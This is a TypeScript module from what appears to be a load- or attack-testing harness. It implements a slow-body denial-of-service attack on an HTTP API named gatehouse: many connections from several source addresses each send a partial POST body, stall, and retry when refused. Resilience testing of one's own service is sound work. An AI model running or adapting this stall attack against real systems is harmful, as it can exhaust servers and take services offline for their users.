import { type AttackTimer, startAttackTimer } from '../support/attack-timer.ts';
import { responseParser } from '../support/response-parser.ts';
import { openTally, type Tally } from '../support/tally.ts';
import { connectFrom, untilClosed, writeDrained } from '../support/wire.ts';
import type { AttackOptions, Report, Target } from './attack.ts';

export interface StallOptions extends AttackOptions {
  readonly from: readonly string[];
  /** Connections per address. */
  readonly connections: number;
  /** Under /api/v1. */
  readonly path: string;
  readonly content_length: number;
  /** Bytes sent at once; nothing follows. */
  readonly sent_bytes: number;
}

const SLICE = Buffer.alloc(64 * 1024, 'x');

/** Sends most of a long body and stalls. Refused requests are started again. */
export async function stall(target: Target, options: StallOptions): Promise<Report> {
  const timer = startAttackTimer(options.seconds);
  const tally = openTally();
  const lanes = options.from.flatMap((from) =>
    Array.from({ length: options.connections }, async () => {
      while (!timer.isOver()) {
        await oneUpload(target, from, options, timer, tally);
        await timer.pause(100);
      }
    }),
  );
  await Promise.all(lanes);
  return tally.report();
}

async function oneUpload(
  target: Target,
  from: string,
  { path, content_length, sent_bytes }: StallOptions,
  timer: AttackTimer,
  tally: Tally,
): Promise<void> {
  const socket = await connectFrom(target, from);
  if (socket === undefined) return;
  tally.count('uploads');
  const reader = responseParser((answer) => {
    tally.answer(answer);
    socket.destroy();
  });
  socket.on('data', (bytes: Buffer) => reader.read(bytes.toString('latin1')));
  const head = `Content-Type: application/json\r\nContent-Length: ${content_length}\r\n`;
  socket.write(`POST /api/v1${path} HTTP/1.1\r\nHost: gatehouse\r\n${head}\r\n`);
  for (let sent = 0; sent < sent_bytes; sent += SLICE.length) {
    if (!(await writeDrained(socket, SLICE, timer.signal))) break;
  }
  await untilClosed(socket, timer.signal);
  socket.destroy();
}
